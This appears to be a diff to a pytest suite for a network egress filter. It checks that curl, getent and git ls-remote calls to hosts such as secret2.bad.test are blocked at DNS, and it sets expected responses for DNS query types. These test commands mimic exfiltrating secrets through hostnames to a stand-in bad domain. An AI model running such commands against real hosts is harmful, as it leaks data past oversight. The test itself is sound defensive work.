@@ -35,8 +35,8 @@ def test_exfiltration(lab, who):
 def test_exfiltration_by_client_programs(lab, who):
     with lab.capture() as capture:
         result = lab.netgate(["--allow", "ok.test"], ["sh", "-c", "getent hosts secret1.bad.test; curl -s http://secret2.bad.test/;"
-                                                      "curl -s https://secret3.bad.test/; ping -c1 secret4.bad.test; true"],
-                             user=who)
+                                                      "curl -s https://secret3.bad.test/;"
+                                                      "git ls-remote https://secret4.bad.test/x 2>/dev/null; true"], user=who)
     assert capture.packets == [] and lab.dns.queries == [], result
     hosts = {record["host"] for record in result.of("decision", door="dns", verdict="deny")}
     assert hosts == {f"secret{number}.bad.test" for number in (1, 2, 3, 4)}, result
@@ -90,10 +90,12 @@ def test_denial_has_soa_and_extended_error(lab):
     assert rtype == 41 and option[:2] == b"\0\x0f" and option[4:6] == b"\0\x11" and b"not_allowed" in option, reply
 
 
-@pytest.mark.parametrize("qtype", [5, 12, 15, 16, 33, 64, 65, 255])
-def test_other_types_of_an_allowed_name(lab, qtype):
+@pytest.mark.parametrize("qtype,rcode", [(5, 0), (12, 0), (15, 0), (16, 0), (33, 0), (64, 0), (65, 0), (10, REFUSED), (252, REFUSED),
+                                         (255, 0)])
+def test_other_types_of_an_allowed_name(lab, qtype, rcode):
+    """NODATA for what a client may ask for on its way, REFUSED for what no client needs: at once, either way."""
     (reply,), _ = ask(lab, ["--allow", "ok.test"], [["ok.test", qtype]])
-    assert (reply["rcode"], reply["answers"]) == (0, []), reply
+    assert (reply["rcode"], reply["answers"]) == (rcode, []), reply
 
 
 def test_ancestors_of_an_allowed_name_exist(lab):
